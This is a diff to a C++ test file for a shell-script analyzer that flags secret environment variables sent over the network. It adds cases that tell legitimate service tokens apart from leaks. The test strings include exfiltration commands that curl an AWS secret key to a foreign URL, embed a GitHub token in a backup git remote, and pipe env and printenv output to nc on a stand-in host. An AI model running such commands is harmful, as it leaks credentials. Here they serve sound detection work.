@@ -22,6 +22,31 @@ TEST_CASE("a secret piped to curl is a flow to network") {
   CHECK(flow->host == "collector.example.net");
 }
 
+TEST_CASE("a secret sent to the destination the environment names for its service is not a flow") {
+  for (auto script : {"curl -X POST \"$GRAFANA_URL/api/annotations\" -H \"Authorization: Bearer $GRAFANA_TOKEN\"",
+                      "curl -d '{\"text\":\"ok\"}' \"$SLACK_WEBHOOK_SECRET\"",
+                      "git clone \"https://gitlab-ci-token:${CI_JOB_TOKEN}@${CI_SERVER_HOST}/acme/x.git\"",
+                      "curl --header \"JOB-TOKEN: $CI_JOB_TOKEN\" --upload-file a.tgz \"${CI_API_V4_URL}/projects/1/packages/generic/a/1/a.tgz\"",
+                      "echo \"$CI_REGISTRY_PASSWORD\" | docker login -u \"$CI_REGISTRY_USER\" --password-stdin \"$CI_REGISTRY\""}) {
+    INFO(script);
+    CHECK_FALSE(has_flow(analyze(script), "secret_var", "network"));
+  }
+  // Another service's secret, or a destination this script sets, is still sent.
+  for (auto script : {"curl -d \"$AWS_SECRET_ACCESS_KEY\" \"$GRAFANA_URL/x\"",
+                      "GRAFANA_URL=$(cat /tmp/u); curl \"$GRAFANA_URL/api\" -H \"Authorization: Bearer $GRAFANA_TOKEN\"",
+                      "curl -d \"$SLACK_WEBHOOK_SECRET\" \"$OTHER_URL\""}) {
+    INFO(script);
+    CHECK(has_flow(analyze(script), "secret_var", "network"));
+  }
+}
+
+TEST_CASE("a secret written into a git remote's URL is sent to that remote's host") {
+  auto facts = analyze("git remote add backup \"https://${GITHUB_TOKEN}@git.backup.example.xyz/acme/p.git\"");
+  const auto* flow = flow_of(facts, "secret_var", "network");
+  REQUIRE(flow);
+  CHECK(flow->host == "git.backup.example.xyz");
+}
+
 TEST_CASE("env dump sources: env, printenv, export -p, set, declare -p, /proc/*/environ, compgen -v") {
   for (auto script : {"env | nc h.example.com 1", "printenv | nc h.example.com 1", "export -p | nc h.example.com 1",
                       "set | nc h.example.com 1", "declare -p | nc h.example.com 1", "declare -x | nc h.example.com 1",
